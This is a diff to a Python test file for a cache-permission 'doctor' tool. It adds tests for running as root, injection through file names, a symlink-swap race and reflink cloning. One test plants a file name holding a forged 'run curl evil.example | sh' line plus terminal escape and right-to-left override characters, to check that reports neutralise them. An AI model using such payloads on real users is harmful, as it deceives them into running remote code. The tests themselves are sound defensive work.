@@ -52,6 +52,13 @@ def test_doctor_is_a_subcommand_of_the_node_command():
     assert 'doctor' in command._usage() and doctor.HELP in command._usage()
 
 
+def test_as_root_the_doctor_refuses_and_names_how_to_run_it(node, capsys):
+    assert command.main(['doctor', '--config', node.config_path]) == 2
+    out = capsys.readouterr()
+    assert out.out == '' and "runuser -l alice -c 'uvfleet doctor'" in out.err
+    assert os.listdir(node.cache) == []
+
+
 def test_a_healthy_member_gets_every_check_ok_exit_0_well_under_two_seconds(node):
     start = time.monotonic()
     code, report, checks = node.doctor(node.member)
@@ -470,7 +477,7 @@ def test_the_installed_layout_runs_doctor_with_the_python_of_the_node(node):
     assert result.returncode == 0, result.stdout.decode() + result.stderr.decode()
 
 
-def test_try_flock_and_reflink_probe_on_real_files(tmp_path):
+def test_try_flock_on_real_files(tmp_path):
     path = str(tmp_path / 'f')
     with open(path, 'w') as handle:
         handle.write('x' * 4096)
@@ -481,6 +488,58 @@ def test_try_flock_and_reflink_probe_on_real_files(tmp_path):
         fcntl.flock(other, fcntl.LOCK_EX)
         assert doctor.try_flock(fd) in doctor.LOCK_BUSY
         os.close(other)
-        assert doctor.try_reflink(fd, str(tmp_path / 'g')) in (True, False)
     finally:
         os.close(fd)
+
+
+def test_a_name_with_a_newline_and_escapes_forges_no_line_in_another_members_report(node):
+    """bea names a file so that ann's report grows a fake fix line and her terminal gets escape sequences."""
+    bucket = perms_testlib.make_dir(os.path.join(node.cache, 'archive-v0'), gid=node.gid)
+    forged = 'x\n%24sfix:   run curl evil.example | sh\n\x1b]0;owned\x07\x1b[2J\u202etxt.py' % ''
+    entry = doctor_node.as_user(node.peer, os.path.join(bucket, forged), mode=0o600)
+    result = node.run(node.member, ['doctor', '--config', node.config_path])
+    out = result.stdout.decode()
+    assert result.returncode == 1
+    lines = out.splitlines()
+    assert not any(line.strip().startswith('fix:   run curl') for line in lines), out
+    assert not any(ch in out for ch in '\x1b\x07\u202e'), repr(out)
+    (line,) = [line for line in lines if 'cache_read' in line]
+    assert line.endswith(', which %s made (mode 0600): Permission denied' % doctor_node.PEER)
+    assert '\\n%24sfix:   run curl evil.example | sh\\n\\x1b]0;owned\\x07\\x1b[2J\\u202etxt.py' % '' in line
+    # the JSON report keeps the name exact (json escapes it)
+    _code, _report, checks = node.doctor(node.member)
+    assert entry in checks['cache_read']['summary']
+
+
+def test_the_cache_probe_never_writes_through_a_directory_swapped_for_a_symlink(node, monkeypatch):
+    """A member swaps the probe's new directory for a link to a directory of the user running the doctor."""
+    victim = os.path.join(node.base, 'victims-dir')
+    os.mkdir(victim, 0o700)
+    real_mkdir = os.mkdir
+
+    def mkdir_then_swap(path, mode=0o777, *, dir_fd=None):
+        real_mkdir(path, mode, dir_fd=dir_fd)
+        os.rename(path, path + '.moved', src_dir_fd=dir_fd, dst_dir_fd=dir_fd)   # what a racing member does
+        os.symlink(victim, path, dir_fd=dir_fd)
+    monkeypatch.setattr(doctor.os, 'mkdir', mkdir_then_swap)
+    doc = doctor.Doctor(node.config, node.env(node.member), node.base)
+    doc.probe_cache(node.cache)
+    assert os.listdir(victim) == []
+    (check,) = [c for c in doc.checks if c.name == 'cache_write']
+    assert check.status == doctor.PROBLEM and check.summary.endswith('(Not a directory)')
+
+
+def test_on_a_file_system_with_reflinks_clone_is_ok_not_a_hardlink_warning(node):
+    """The probe's clone works (its source was opened write-only before, so FICLONE always failed)."""
+    with perms_testlib.xfs_reflink(os.path.join(node.base, 'xfs')) as xfs:
+        cache = perms_testlib.make_dir(os.path.join(xfs, 'cache'), gid=node.gid)
+        work = os.path.join(xfs, 'work')
+        os.mkdir(work)
+        os.chown(work, node.member.pw_uid, node.member.pw_gid)
+        node.write_config(cache_dir=cache, managed_dirs=[cache, node.python, node.tools])
+        doctor_node.write(node.uv_toml, 'cache-dir = "%s"\nlink-mode = "clone"\n' % cache, 0o644)
+        code, _report, checks = node.doctor(node.member, cwd=work)
+        link = checks['link_mode']
+        assert code == 0 and link['status'] == 'ok' and link['details']['reflink'] is True, link
+        assert link['summary'].startswith('clone (')
+        assert os.listdir(cache) == [] or all(not n.startswith('.tmp-uvfleet') for n in os.listdir(cache))
